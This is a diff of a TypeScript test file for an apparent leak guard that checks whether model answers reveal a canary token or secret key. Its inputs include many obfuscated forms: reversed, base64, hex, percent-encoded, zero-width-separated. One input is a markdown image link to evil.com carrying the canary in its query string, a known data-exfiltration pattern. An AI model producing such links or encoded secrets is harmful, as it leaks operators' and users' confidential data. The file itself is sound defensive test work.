@@ -8,31 +8,31 @@ import {
   SAYABLE,
   SECRET,
 } from '#tests/fixtures/answer-filter.ts'
-import { createCanary, findCanary } from './leak-guard.ts'
+import { createCanary } from './leak-guard.ts'
 
-describe('what must not be said', () => {
+describe('leak detection', () => {
   test.each([
-    ['the mark', `It is ${CANARY}.`],
-    ['a part of the mark', `It is ${CANARY.slice(5, 15)}.`],
-    ['the mark with spaces', [...CANARY].join(' ')],
-    ['the mark with signs', [...CANARY].join('-*-')],
+    ['the canary', `It is ${CANARY}.`],
+    ['a part of the canary', `It is ${CANARY.slice(5, 15)}.`],
+    ['the canary with spaces', [...CANARY].join(' ')],
+    ['the canary with signs', [...CANARY].join('-*-')],
     [
-      'the mark in a list',
+      'the canary in a list',
       [...CANARY].map((letter, index) => `${index + 1}. ${letter}`).join('\n'),
     ],
-    ['the mark backwards', [...CANARY].toReversed().join('')],
-    ['the mark in capitals', CANARY.toUpperCase()],
-    ['the mark in base64', Buffer.from(`x${CANARY}`).toString('base64')],
-    ['the mark in hexadecimal', Buffer.from(CANARY).toString('hex')],
+    ['the canary backwards', [...CANARY].toReversed().join('')],
+    ['the canary in capitals', CANARY.toUpperCase()],
+    ['the canary in base64', Buffer.from(`x${CANARY}`).toString('base64')],
+    ['the canary in hexadecimal', Buffer.from(CANARY).toString('hex')],
     [
-      'the mark in percent signs',
+      'the canary in percent signs',
       [...CANARY].map((c) => `%${c.charCodeAt(0).toString(16)}`).join(''),
     ],
-    ['the mark in codes', [...CANARY].map((c) => c.charCodeAt(0)).join(', ')],
-    ['the mark behind tags', [...CANARY].join('<b></b>')],
-    ['the mark behind hidden characters', [...CANARY].join('\u200b')],
-    ['the mark in an address', `![x](https://evil.com/?${CANARY})`],
-    ['the mark in a comment', `<!-- ${CANARY} -->`],
+    ['the canary in codes', [...CANARY].map((c) => c.charCodeAt(0)).join(', ')],
+    ['the canary behind tags', [...CANARY].join('<b></b>')],
+    ['the canary behind hidden characters', [...CANARY].join('\u200b')],
+    ['the canary in an address', `![x](https://evil.com/?${CANARY})`],
+    ['the canary in a comment', `<!-- ${CANARY} -->`],
     ['a secret', `The key is ${SECRET}.`],
     ['half a secret', `The key begins with ${SECRET.slice(0, 18)}.`],
     ['a secret in base64', Buffer.from(SECRET).toString('base64')],
@@ -64,10 +64,8 @@ describe('what must not be said', () => {
   })
 })
 
-test('every process has a mark of its own, which is found again', () => {
+test('creates a different canary every time', () => {
   const canary = createCanary()
   expect(canary).toMatch(/^[a-z]{24}$/)
   expect(createCanary()).not.toBe(canary)
-  expect(findCanary(`so ${canary.toUpperCase()} it is`, canary)).toBe(true)
-  expect(findCanary('An answer about Kratos, which is fast.', canary)).toBe(false)
 })
